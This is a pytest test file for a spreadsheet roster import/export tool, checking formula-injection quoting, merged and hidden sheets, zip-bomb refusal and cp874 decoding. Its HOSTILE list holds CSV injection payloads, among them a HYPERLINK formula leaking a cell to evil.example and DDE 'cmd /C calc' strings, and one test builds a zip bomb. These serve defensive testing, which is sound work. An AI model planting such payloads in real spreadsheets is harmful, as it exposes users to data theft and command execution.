"""Hostile and awkward spreadsheets (issue 13): formulas in exports, merged and formula cells,
hidden and several sheets, zip bombs, cp874 that is valid UTF-8, and matching at scale."""

from __future__ import annotations

import random
import re
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sealprep.core.secretariat.assignments import PRIMARY, Assignment
from sealprep.core.secretariat.people import Person, PersonIndex, find_same_person, same_person
from sealprep.core.secretariat.roster_export import export_assignments, export_roster
from sealprep.core.secretariat.roster_import import import_roster, preview_roster
from sealprep.core.secretariat.table_files import (
    TableFileError,
    protect_cell,
    read_table,
    unprotect_cell,
    write_table,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
    "''two quotes",
    "'ordinary quote",
    "=1+1",
]


def hostile_roster(store):
    people = [
        Person(f"นายทดสอบ{n} ใจดี", position=value, agency="สยป.", email=f"p{n}@example.org", notes=value)
        for n, value in enumerate(HOSTILE)
    ]
    people.append(Person(HOSTILE[0], agency="สนศ.", email="formula-name@example.org"))
    store.people.save_many(people)
    return people


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(bank_store, tmp_path):
    hostile_roster(bank_store)
    before = bank_store.people.list()
    path = tmp_path / "roster.csv"
    export_roster(bank_store, path)
    text = path.read_bytes().decode("utf-8-sig")
    # no cell of the file starts with a formula character: each got a quote in front
    for line in text.splitlines()[1:]:
        for cell in re.split(r',(?=(?:[^"]*"[^"]*")*[^"]*$)', line):
            cell = cell[1:-1].replace('""', '"') if cell.startswith('"') else cell
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    assert "'=HYPERLINK(" in text and "'+cmd|" in text and "'@SUM(" in text and "'-2+3" in text
    assert "'''=already quoted" not in text and "''=already quoted" in text and "'''two quotes" in text
    assert ",'ordinary quote," in text  # a quote before ordinary text is left alone
    preview = preview_roster(bank_store, path)
    assert preview.ok, [str(p) for p in preview.problems]
    assert preview.count("same") == len(before)  # our own export reads back exactly
    import_roster(bank_store, preview)
    assert bank_store.people.list() == before


def test_assignments_csv_export_neutralises_formulas(bank_store, tmp_path):
    person = bank_store.people.save(Person("=cmd|' /C calc'!A0", agency="สยป.", email="x@example.org"))
    bank_store.assignments.set_many([Assignment(person.id, "d1-pads", PRIMARY)])
    path = tmp_path / "assignments.csv"
    export_assignments(bank_store, path)
    assert "\r\n'=cmd|' /C calc'!A0," in path.read_bytes().decode("utf-8-sig")


def test_xlsx_export_writes_text_never_formulas(bank_store, tmp_path):
    hostile_roster(bank_store)
    path = tmp_path / "roster.xlsx"
    export_roster(bank_store, path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    values = {c for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True) for c in row}
    assert set(HOSTILE) <= values
    assert preview_roster(bank_store, path).count("same") == len(HOSTILE) + 1


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab ก")), max_size=6))
def test_quoting_round_trips_every_value(value):
    assert unprotect_cell(protect_cell(value)) == value
    assert not protect_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def write_workbook(path, build):
    workbook = openpyxl.Workbook()
    build(workbook)
    workbook.save(path)
    return path


def test_a_merged_agency_cell_gives_every_row_its_agency(bank_store, tmp_path):
    def build(wb):
        ws = wb.active
        ws.append(["ชื่อ-นามสกุล", "หน่วยงาน", "อีเมล"])
        ws.append(["นายสมชาย ใจดี", "สยป.", "a@example.org"])
        ws.append(["นางสาวสมหญิง รักเรียน", None, "b@example.org"])
        ws.append(["ดร.วิชัย มั่นคง", "สนศ.", "c@example.org"])
        ws.merge_cells("B2:B3")

    preview = preview_roster(bank_store, write_workbook(tmp_path / "merged.xlsx", build))
    assert preview.ok, [str(p) for p in preview.problems]
    assert [r.values["agency"] for r in preview.rows] == ["สยป.", "สยป.", "สนศ."]


def test_a_formula_without_a_stored_result_is_reported_with_row_and_column(bank_store, tmp_path):
    def build(wb):
        ws = wb.active
        ws.append(["ชื่อ-นามสกุล", "หน่วยงาน", "อีเมล"])
        ws.append(["นายสมชาย ใจดี", "สยป.", "a@example.org"])
        ws.append(["นางสาวสมหญิง รักเรียน", "=B2", "b@example.org"])  # openpyxl stores no result

    preview = preview_roster(bank_store, write_workbook(tmp_path / "formula.xlsx", build))
    assert not preview.ok
    assert [(p.row, p.code, p.details["column"]) for p in preview.problems] == [(3, "formula_no_value", "หน่วยงาน")]


def test_a_formula_with_a_stored_result_reads_its_result(tmp_path):
    path = write_workbook(tmp_path / "cached.xlsx", lambda wb: wb.active.append(["a", "=A1"]))
    with zipfile.ZipFile(path) as archive:  # add the cached result Excel would have saved
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b"<f>A1</f><v />", b"<f>A1</f><v>7</v>")
    assert parts["xl/worksheets/sheet1.xml"] != sheet
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    row = read_table(path).rows[0]
    assert row.cells == ["a", "7"] and row.formulas == []


def two_sheets(first: tuple[str, str], second: tuple[str, str], hide_first: bool):
    """A workbook builder: two sheets (title, one person each), the second one active."""

    def build(wb):
        for index, (title, name) in enumerate((first, second)):
            sheet = wb.active if index == 0 else wb.create_sheet()
            sheet.title = title
            sheet.append(["ชื่อ-นามสกุล", "หน่วยงาน"])
            sheet.append([name, "สยป."])
        if hide_first:
            wb.worksheets[0].sheet_state = "hidden"
        wb.active = 1

    return build


def test_the_visible_active_sheet_is_read_never_a_hidden_one(bank_store, tmp_path):
    build = two_sheets(("old", "นายเก่า ไม่ใช้"), ("ล่าสุด", "นายสมชาย ใจดี"), hide_first=True)
    preview = preview_roster(bank_store, write_workbook(tmp_path / "hidden.xlsx", build))
    assert [r.written["name"] for r in preview.rows] == ["นายสมชาย ใจดี"]
    assert preview.sheet == "ล่าสุด" and preview.other_sheets == []  # a hidden sheet is not offered


def test_with_several_visible_sheets_the_active_one_is_read_and_named(bank_store, tmp_path, qtbot):
    from sealprep.ui.secretariat.import_dialog import roster_preview_dialog

    build = two_sheets(("รอบแรก", "นายแรก ทดสอบ"), ("รอบสอง", "นายสมชาย ใจดี"), hide_first=False)
    preview = preview_roster(bank_store, write_workbook(tmp_path / "two.xlsx", build))
    assert [r.written["name"] for r in preview.rows] == ["นายสมชาย ใจดี"]
    assert (preview.sheet, preview.other_sheets) == ("รอบสอง", ["รอบแรก"])
    dialog = roster_preview_dialog(preview)
    qtbot.addWidget(dialog)
    assert "'รอบสอง'" in dialog.summary.text() and "'รอบแรก'" in dialog.summary.text()


def test_a_zip_bomb_is_refused_before_it_is_loaded(tmp_path):
    path = write_workbook(tmp_path / "bomb.xlsx", lambda wb: wb.active.append(["name"]))
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    blank = b"<!--" + b" " * (40 * 1024 * 1024) + b"-->"  # 40 MB that deflate to about 40 KB
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        b"<sheetData>", blank + b"<sheetData>"
    )
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    with pytest.raises(TableFileError, match="expand"):
        read_table(path)


def test_cp874_that_is_valid_utf8_is_read_as_cp874_and_said_so(bank_store, tmp_path, qtbot):
    from sealprep.ui.secretariat.import_dialog import roster_preview_dialog

    # รถ (car) and ยก (lift) in cp874 are C3 B6 and C2 A1: also UTF-8 for "ö" and "¡"
    data = "name,email,notes\r\nSomchai Jaidee,somchai@example.org,รถ ยก\r\n".encode("cp874")
    assert data.decode("utf-8").endswith("ö ¡\r\n")  # the trap is real
    path = tmp_path / "roster.csv"
    path.write_bytes(data)
    preview = preview_roster(bank_store, path)
    assert preview.rows[0].written["notes"] == "รถ ยก"
    assert preview.encoding == "cp874" and preview.encoding_guessed
    dialog = roster_preview_dialog(preview)
    qtbot.addWidget(dialog)
    assert "cp874" in dialog.summary.text()


def test_genuine_utf8_accents_stay_utf8(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_bytes("name,email\r\nJosé Müller,jose@example.org\r\n".encode())
    table = read_table(path)
    assert table.encoding == "utf-8" and not table.encoding_guessed
    assert table.rows[1].cells[0] == "José Müller"


people_strategy = st.builds(
    Person,
    name=st.sampled_from(["นายสมชาย ใจดี", "สมชาย ใจดี", "ดร.สมชาย  ใจดี", "นางสาวสมหญิง รักเรียน", "Ms. Jane Doe"]),
    agency=st.sampled_from(["", "สยป.", "สนศ."]),
    email=st.sampled_from(["", "", "a@example.org", "A@Example.org", "b@example.org"]),
)


def scan(person, people, earliest=False):
    """The quadratic rule the index replaces, as ``find_same_person`` was written."""
    if earliest:
        return next((p for p in people if p is not person and same_person(person, p)), None)
    email = person.email.strip().casefold()
    if email:
        found = next((p for p in people if p.email.strip().casefold() == email), None)
        if found:
            return found
    return next((p for p in people if p is not person and same_person(person, p)), None)


@settings(max_examples=200)
@given(st.lists(people_strategy, max_size=8), people_strategy)
def test_the_index_answers_exactly_as_the_scan(people, person):
    index = PersonIndex(people)
    assert index.find(person) is scan(person, people)
    assert index.find(person, earliest=True) is scan(person, people, earliest=True)
    assert find_same_person(person, people) is scan(person, people)


def test_the_write_transaction_holds_only_the_writes(bank_store, tmp_path):
    rows = [[f"นายคน{n} ทดสอบ", "สยป.", f"p{n}@example.org" if n % 3 else ""] for n in range(300)]
    random.Random(1).shuffle(rows)
    path = write_table(tmp_path / "many.csv", ["ชื่อ-นามสกุล", "หน่วยงาน", "อีเมล"], rows)
    preview = preview_roster(bank_store, path)
    statements: list[str] = []
    bank_store.db.conn.set_trace_callback(statements.append)
    try:
        import_roster(bank_store, preview)
    finally:
        bank_store.db.conn.set_trace_callback(None)
    begin = next(i for i, s in enumerate(statements) if s.startswith("BEGIN"))
    inside = statements[begin + 1 : statements.index("COMMIT")]
    roster_reads = [s for s in inside if "ORDER BY name" in s]
    assert roster_reads == []  # no one else wrote meanwhile (data_version), so the roster is not even read again
    assert [s for s in inside if s.startswith("SELECT")] == [
        "SELECT COALESCE(MAX(id), 0) FROM people",
        "SELECT id FROM people WHERE id > 0 ORDER BY id",
    ]  # only the new people's ids, read back after the one batch of inserts
    # one INSERT per new person (SQLite's trace repeats a statement for each trigger it fires)
    assert len({s for s in inside if s.startswith("INSERT INTO people")}) == 300
    assert len(bank_store.people.list()) == 300


def test_a_roster_changed_after_the_preview_is_matched_again(bank_store, tmp_path):
    path = write_table(
        tmp_path / "r.csv", ["ชื่อ-นามสกุล", "หน่วยงาน", "อีเมล"], [["นายสมชาย ใจดี", "สยป.", "s@example.org"]]
    )
    preview = preview_roster(bank_store, path)
    assert preview.rows[0].status == "new"
    bank_store.people.save(Person("นายสมชาย ใจดี", agency="สยป.", email="s@example.org", phone="021234567"))
    summary = import_roster(bank_store, preview)
    assert (summary.added, summary.unchanged) == (0, 1)
    assert [p.phone for p in bank_store.people.list()] == ["021234567"]
